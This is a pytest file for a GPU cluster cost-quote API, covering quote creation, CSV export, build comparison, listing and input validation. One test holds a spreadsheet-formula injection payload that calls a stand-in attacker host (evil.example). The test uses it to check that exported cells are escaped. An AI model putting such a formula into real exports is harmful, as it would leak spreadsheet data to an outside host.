"""Quote endpoints over a real database (both backends): create, read, CSV, compare, list."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from fastapi.testclient import TestClient

from shared.kit.db import make_engine, session_scope
from shared.kit.settings import Settings
from shared.quotes.jobs import recompute_standard_quotes
from tests.services.api.conftest import MARKET_DAY
from tests.services.api.test_tco import tco_client  # noqa: F401  (fixture)


def test_4x_rtx_3090_workstation_quote_is_stored_with_its_warnings(
    tco_client: TestClient,  # noqa: F811
) -> None:
    created = tco_client.post(
        "/quotes/cluster", json={"gpu": "GeForce RTX 3090", "count": 4, "condition": "used"}
    )
    assert created.status_code == 201
    body = created.json()
    result = body["result"]
    assert result["flags"]["psu_over_outlet"] and result["flags"]["cooling"]
    assert result["power"]["suggested_power_limit"]["cap_w"] == 310
    gpu_line = result["line_items"][0]
    assert (gpu_line["category"], gpu_line["quantity"], gpu_line["unit_usd"]) == (
        "gpu",
        4,
        "800.00",
    )
    assert gpu_line["basis"] == "scraped" and gpu_line["as_of"] == MARKET_DAY
    fetched = tco_client.get(f"/quotes/{body['id']}").json()
    assert fetched["result"] == result and Decimal(fetched["total_usd"]) == Decimal(
        body["total_usd"]
    )


def test_8x_geforce_datacenter_quote_warns_about_the_licence_unless_allowed(
    tco_client: TestClient,  # noqa: F811
) -> None:
    request = {"gpu": "rtx-3090", "count": 8, "deployment": "datacenter"}
    warned = tco_client.post("/quotes/cluster", json=request).json()["result"]
    assert any(w.startswith("licence:") for w in warned["warnings"])
    allowed = tco_client.post("/quotes/cluster", json={**request, "allow_geforce": True}).json()
    assert not any(w.startswith("licence:") for w in allowed["result"]["warnings"])


def test_csv_export_parses_and_adds_up(tco_client: TestClient) -> None:  # noqa: F811
    body = tco_client.post(
        "/quotes/cluster", json={"gpu": "rtx-a6000", "count": 16, "deployment": "datacenter"}
    ).json()
    response = tco_client.get(f"/quotes/{body['id']}", params={"format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    total = rows[-1]
    lines = [r for r in rows if r["category"] not in ("warning", "prices", "model", "total")]
    assert {"gpu", "node", "network"} <= {r["category"] for r in lines}
    assert sum(Decimal(r["total_usd"]) for r in lines) == Decimal(total["total_usd"])
    assert all(r["basis"] and r["source"] for r in lines)
    [prices] = [r for r in rows if r["category"] == "prices"]
    assert prices["as_of"] == body["prices_as_of"][:10]
    [model] = [r for r in rows if r["category"] == "model"]
    assert body["model_version"] in model["item"]
    # The warnings travel with the spreadsheet too (8 GeForce cards in a server).
    warned = tco_client.post(
        "/quotes/cluster", json={"gpu": "rtx-3090", "count": 8, "deployment": "datacenter"}
    ).json()
    text = tco_client.get(f"/quotes/{warned['id']}", params={"format": "csv"}).text
    exported = [r["item"] for r in csv.DictReader(io.StringIO(text)) if r["category"] == "warning"]
    assert exported == warned["result"]["warnings"] and exported


def test_a_label_cannot_become_a_spreadsheet_formula(
    tco_client: TestClient,  # noqa: F811
) -> None:
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    body = {
        "candidates": [
            {"gpu": "rtx-3090", "count": 2, "condition": "used", "label": hostile},
            {"gpu": "rtx-a6000", "count": 1, "condition": "new", "label": "@SUM(1)"},
        ],
        "years": 1,
    }
    created = tco_client.post("/quotes/compare", json=body).json()
    # The JSON keeps what the buyer typed; only the spreadsheet cell is quoted.
    assert created["result"]["candidates"][0]["label"] == hostile
    text = tco_client.get(f"/quotes/{created['id']}", params={"format": "csv"}).text
    items = [r["item"] for r in csv.DictReader(io.StringIO(text))]
    assert any(item.startswith("'" + hostile) for item in items)
    assert any(item.startswith("'@SUM(1)") for item in items)
    assert not any(item[:1] in ("=", "+", "-", "@") for item in items)


def test_unknown_quote_is_404(tco_client: TestClient) -> None:  # noqa: F811
    response = tco_client.get("/quotes/0123456789abcdef")
    assert response.status_code == 404
    assert "quote_id" in response.json()["message"]


@pytest.mark.parametrize(
    ("body", "field"),
    [
        ({"gpu": "rtx-3090", "deployment": "moon"}, "deployment"),
        ({"gpu": "rtx-3090", "network": "wifi"}, "network"),
        ({"gpu": "rtx-9999"}, "gpu"),
        ({"gpu": "rtx-3090", "count": 2, "memory_gb": 48}, "count"),
        ({"gpu": "rtx-3090", "power_limit_w": 50}, "power_limit_w"),
        ({"gpu": "b200"}, "gpu_price_usd"),
    ],
)
def test_bad_quote_input_is_a_422_naming_the_field(
    tco_client: TestClient,  # noqa: F811
    body: dict[str, object],
    field: str,
) -> None:
    response = tco_client.post("/quotes/cluster", json=body)
    assert response.status_code == 422
    assert response.json()["message"].startswith(f"{field}:")


def test_compare_puts_builds_side_by_side(tco_client: TestClient) -> None:  # noqa: F811
    body = {
        "candidates": [
            {"gpu": "rtx-3090", "count": 4, "condition": "used"},
            {"gpu": "rtx-a6000", "count": 2, "condition": "new"},
            {"gpu": "h100-sxm5", "acquisition": "rent", "rent_hours": 8760},
        ],
        "years": 1,
    }
    response = tco_client.post("/quotes/compare", json=body)
    assert response.status_code == 201
    candidates = response.json()["result"]["candidates"]
    assert [c["acquisition"] for c in candidates] == ["buy", "buy", "rent"]
    assert sorted(c["rank"] for c in candidates) == [1, 2, 3]
    rent = candidates[2]
    assert Decimal(rent["total_usd"]) == Decimal("26280.00")  # $3/GPU-hour x 8,760 h
    for c in candidates:
        expected = Decimal(c["total_usd"]) / Decimal(str(c["work_reference_gpu_hours"]))
        assert Decimal(c["usd_per_reference_gpu_hour"]) == expected.quantize(Decimal("0.01"))
        # Issue 38: each candidate in images (cv's unit) and dollars per 1k of them.
        cost, throughput = c["cost_per_unit"], c["throughput"]
        assert throughput["unit"] == "images/s" and cost["unit"] == "usd per 1k images"
        assert cost["units_per_hour"] == pytest.approx(throughput["value"] * 3600, rel=1e-3)
        assert cost["usd"] == pytest.approx(
            cost["usd_per_hour"] / cost["units_per_hour"] * 1e3, rel=1e-3
        )
    # Renting: $3 a GPU-hour on demand is the hourly cost of the one rented GPU.
    assert rent["cost_per_unit"]["usd_per_hour"] == pytest.approx(3.0)
    bad = tco_client.post(
        "/quotes/compare", json={"candidates": [{"gpu": "x", "acquisition": "lease"}]}
    )
    assert bad.status_code == 422 and "acquisition" in bad.json()["message"]


def test_standard_quotes_are_listed_after_the_recompute(
    tco_client: TestClient,  # noqa: F811
) -> None:
    own = tco_client.post("/quotes/cluster", json={"gpu": "rtx-3090", "count": 2})
    assert own.status_code == 201
    settings: Settings = tco_client.app.state.settings  # type: ignore[attr-defined]
    engine = make_engine(settings.sqlalchemy_url)
    with session_scope(engine) as session:
        recompute_standard_quotes(session, None, settings, tco_client.app.state.model)  # type: ignore[attr-defined]
    engine.dispose()
    listed = tco_client.get("/quotes", params={"standard": "true"}).json()["items"]
    keys = [q["standard_key"] for q in listed]
    assert "4x-rtx-3090-used-workstation" in keys and keys == sorted(keys)
    # Made without a key: never listed (tests/services/api/test_quote_owners.py), but its
    # id still reaches it.
    users = tco_client.get("/quotes").json()["items"]
    assert own.json()["id"] not in [q["id"] for q in users + listed]
    assert tco_client.get(f"/quotes/{own.json()['id']}").status_code == 200


@pytest.mark.parametrize(
    ("candidate", "extra", "field"),
    [
        ({"gpu": "h100-sxm5", "acquisition": "rent", "rent_hours": 1e-30}, {}, "rent_hours"),
        ({"gpu": "rtx-3090", "utilization": 1e-30}, {}, "utilization"),
        ({"gpu": "rtx-3090"}, {"years": 1e-30}, "years"),
        ({"gpu": "rtx-3090"}, {"utilization": 5e-324}, "utilization"),
    ],
)
def test_vanishing_hours_in_a_comparison_are_a_422_naming_the_field(
    tco_client: TestClient,  # noqa: F811
    candidate: dict[str, object],
    extra: dict[str, object],
    field: str,
) -> None:
    body = {"candidates": [candidate, {"gpu": "rtx-a6000"}], **extra}
    response = tco_client.post("/quotes/compare", json=body)
    assert response.status_code == 422
    assert field in response.json()["message"]
